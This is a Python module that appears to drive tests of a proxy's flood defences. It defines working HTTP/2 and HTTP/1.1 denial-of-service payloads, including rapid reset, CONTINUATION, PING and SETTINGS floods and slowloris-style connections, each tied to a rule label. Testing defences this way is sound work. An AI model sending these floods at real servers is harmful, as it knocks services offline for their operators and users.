"""What a hostile client sends: for each rule of floods an opening and what is repeated for ever."""
import dataclasses
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x86\x84\x41\x01a"  # RFC 7541: :method GET, :scheme http, :path /, :authority a
POST = b"\x83\x86\x84\x41\x01a"
BATCH = 200  # of what is sent at once


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


OPENING = PREFACE + frame(SETTINGS, 0, 0)


def _same(piece):
    def more(_):
        return piece * BATCH
    return more


def _per_stream(make):
    """`make(stream)` for ever new streams."""
    def more(numbers):
        return b"".join(make(1 + 2 * next(numbers)) for _ in range(BATCH))
    return more


def _literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


@dataclasses.dataclass
class Attack:
    rule: str
    what: str
    opening: bytes
    more: object          # (numbers) -> bytes, asked for as long as the connection takes them
    connections: int = 4  # at a time
    reads: bool = True    # takes what the proxy sends


def _resets(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST, 0, stream, b"\0\0\0\x08")


def _made_resets(stream):
    """The proxy has to reset it: an increment of zero is an error."""
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(WINDOW, 0, stream, b"\0\0\0\0")


def _crumbs(stream):
    fields = GET + b"".join(_literal(b"cookie", b"a") for _ in range(4000))
    pieces = [fields[at:at + 16000] for at in range(0, len(fields), 16000)]
    last = len(pieces) - 1
    return b"".join(frame(HEADERS if n == 0 else CONTINUATION,
                          (END_STREAM if n == 0 else 0) | (END_HEADERS if n == last else 0),
                          stream, piece) for n, piece in enumerate(pieces))


ATTACKS = [
    Attack("R24", "PING for ever, nothing read", OPENING, _same(frame(PING, 0, 0, b"pingpong")),
           reads=False),
    Attack("R24", "SETTINGS for ever", OPENING, _same(frame(SETTINGS, 0, 0))),
    Attack("R25", "empty DATA without an end", OPENING + frame(HEADERS, END_HEADERS, 1, POST),
           _same(frame(DATA, 0, 1))),
    Attack("R26", "PRIORITY for ever", OPENING, _same(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))),
    Attack("R26", "WINDOW_UPDATE for ever", OPENING, _same(frame(WINDOW, 0, 0, b"\0\0\0\x01"))),
    Attack("R27", "DATA of one byte", OPENING + frame(HEADERS, END_HEADERS, 1, POST),
           _same(frame(DATA, 0, 1, b"x"))),
    Attack("R28", "requests behind a shut window",
           PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"),
           _per_stream(lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, GET)), reads=False),
    Attack("R29", "requests that are reset at once", OPENING, _per_stream(_resets)),
    Attack("R29", "requests that we are made to reset", OPENING, _per_stream(_made_resets)),
    Attack("R31", "SETTINGS of 100 entries", PREFACE,
           _same(frame(SETTINGS, 0, 0, b"\0\x04\0\x01\0\0" * 100))),
    Attack("R32", "CONTINUATION for ever", OPENING + frame(HEADERS, 0, 1, GET),
           _same(frame(CONTINUATION, 0, 1, _literal(b"x", b"y")))),
    Attack("R33", "cookies of one byte", OPENING, _per_stream(_crumbs)),
    Attack("R34", "the header table resized", OPENING, _per_stream(
        lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, b"\x20\x3f\xe1\x1f" * 500 + GET))),
    Attack("R37", "frames of unknown types", OPENING, _same(frame(0x77, 0, 0, b"x"))),
    Attack("F30", "heads that never end", b"GET / HTTP/1.1\r\nHost: a\r\n",
           lambda _: b"X: y\r\n", connections=500),
    Attack("F30", "bodies that never end",
           b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
           lambda _: b"1\r\nx\r\n", connections=500),
    Attack("F30", "responses that nobody reads", b"GET /?bytes=1000000 HTTP/1.1\r\nHost: a\r\n\r\n",
           lambda _: b"", connections=500, reads=False),
    Attack("F30", "connections that say nothing", b"", lambda _: b"", connections=2000),
]
SLOW = ("F30",)  # a byte now and then rather than as many as it takes
